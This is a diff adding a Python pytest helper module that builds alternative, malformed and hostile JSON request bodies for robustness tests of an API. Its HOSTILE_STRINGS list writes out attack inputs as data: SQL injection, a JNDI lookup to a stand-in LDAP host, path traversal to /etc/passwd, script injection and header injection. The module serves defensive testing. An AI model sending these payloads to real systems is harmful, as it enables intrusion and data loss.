@@ -1,0 +1,123 @@
+"""What any API that takes a JSON object has to cope with: other spellings, wrong types, hostile content.
+
+Bodies are given by a phrase that says what they are.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterable
+from decimal import Decimal
+from typing import Any
+
+import pytest
+
+VALUES: dict[str, Any] = {
+    "string": "100", "number": 100, "boolean": True, "null": None, "array": ["100"],
+    "object": {"value": "100"},
+}
+HOSTILE_STRINGS = (
+    "\x00", "a\x00b", "\ud800", "\U0001f4b8" * 50, "\u202etxet desrever", "\u200b", "\r\nX-Injected: yes",
+    "'; DROP TABLE sessions; --", "${jndi:ldap://rampcheck.example/x}", "{{7*7}}", "../../../etc/passwd",
+    "<script>alert(1)</script>", "%s%n%x", "x" * 10_000, "9" * 400, "1e400", "-0", "a" * 255 + "@example.com",
+)
+NEST = 20_000
+
+
+def each(prefix: str, names: Iterable[str]) -> list[Any]:
+    """Gives a test's parameter for each field, marked with the field's own clause."""
+    return [pytest.param(name, id=name, marks=pytest.mark.verifies(f"{prefix}.{name}")) for name in names]
+
+
+def other_types(kind: str) -> list[Any]:
+    """Gives a value of every JSON type but `kind` and null; the string would pass for a number."""
+    return [value for name, value in VALUES.items() if name not in (kind, "null")]
+
+
+def spellings(value: dict[str, Any]) -> dict[str, bytes]:
+    """Gives other spellings of the same JSON object (RFC 8259), each different from compact JSON."""
+    texts = {
+        "indented JSON": json.dumps(value, indent=4),
+        "spaces after the separators": json.dumps(value),
+        "white space around the JSON": f" \r\n\t{_compact(value)}\n",
+        "the members in reverse order": _compact(dict(reversed(value.items()))),
+        "the members in alphabetical order": json.dumps(value, separators=(",", ":"), sort_keys=True),
+        "raw UTF-8": json.dumps(value, separators=(",", ":"), ensure_ascii=False),
+        "every letter escaped": _spelled(value, string=_escaped),
+        "every letter escaped in upper case": _spelled(value, string=_escaped_in_upper_case),
+        "numbers with a fraction": _spelled(value, number=_with_fraction),
+        "numbers with an exponent": _spelled(value, number=_with_exponent),
+    }
+    bodies = {what: text.encode() for what, text in texts.items()}
+    return {what: body for what, body in bodies.items() if body != _compact(value).encode()}
+
+
+def _compact(value: Any) -> str:
+    return json.dumps(value, separators=(",", ":"))
+
+
+def _spelled(
+    value: Any, string: Callable[[str], str] = _compact, number: Callable[[float], str] = _compact,
+) -> str:
+    match value:
+        case dict():
+            members = (f"{string(name)}:{_spelled(member, string, number)}" for name, member in value.items())
+            return "{" + ",".join(members) + "}"
+        case list():
+            return "[" + ",".join(_spelled(item, string, number) for item in value) + "]"
+        case str():
+            return string(value)
+        case bool() | None:
+            return _compact(value)
+    return number(value)
+
+
+def _escaped(text: str) -> str:
+    units = text.encode("utf-16-be", "surrogatepass")
+    return '"' + "".join(f"\\u{units[at:at + 2].hex()}" for at in range(0, len(units), 2)) + '"'
+
+
+def _escaped_in_upper_case(text: str) -> str:
+    return _escaped(text).upper().replace("\\U", "\\u")
+
+
+def _with_fraction(number: float) -> str:
+    digits = f"{Decimal(str(number)):f}"
+    return f"{digits}0" if "." in digits else f"{digits}.0"
+
+
+def _with_exponent(number: float) -> str:
+    return f"{Decimal(str(number)):e}".replace("+", "")
+
+
+def not_json(body: bytes) -> dict[str, bytes]:
+    """Gives bodies that no JSON parser may take, made of one that is a JSON object."""
+    return {
+        "an empty body": b"", "JSON without its last byte": body[:-1],
+        "JSON with a trailing comma": body[:-1] + b",}", "JSON in single quotes": body.replace(b'"', b"'"),
+        "JSON followed by a word": body + b" and", "a form": b"amount=100&network=none",
+    }
+
+
+def not_object(body: bytes) -> dict[str, bytes]:
+    """Gives bodies that are JSON and no object, one of them an array around `body`."""
+    return {
+        "an array": b"[" + body + b"]", "an empty array": b"[]", "a string": b'"session"', "a number": b"100",
+        "null": b"null", "true": b"true",
+    }
+
+
+def hostile_bodies(body: bytes) -> dict[str, bytes]:
+    """Gives bodies that a parser or what comes after it may fall over, made of one that is a JSON object."""
+    inner, head = body[1:-1], body[:-1]
+    return {
+        f"{NEST:,} levels of nesting": head + b',"note":' + b"[" * NEST + b"]" * NEST + b"}",
+        "a number of 5,000 digits": head + b',"note":' + b"9" * 5000 + b"}",
+        "every member twice": b"{" + inner + b"," + inner + b"}",
+        "a member without a name": head + b',"":""}',
+        "a `__proto__`": head + b',"__proto__":{"type":"sell"}}',
+        "an undocumented member": head + b',"rampcheck":{"note":[1,"x",null]}}',
+        "1,000 more members": head + b"".join(b',"note%d":"x"' % number for number in range(1000)) + b"}",
+        "a second JSON text": body + b"{}", "bytes that are no UTF-8": head + b',"note":"\xff\xfe"}',
+        "a byte order mark": b"\xef\xbb\xbf" + body, "UTF-16": body.decode().encode("utf-16"),
+    }
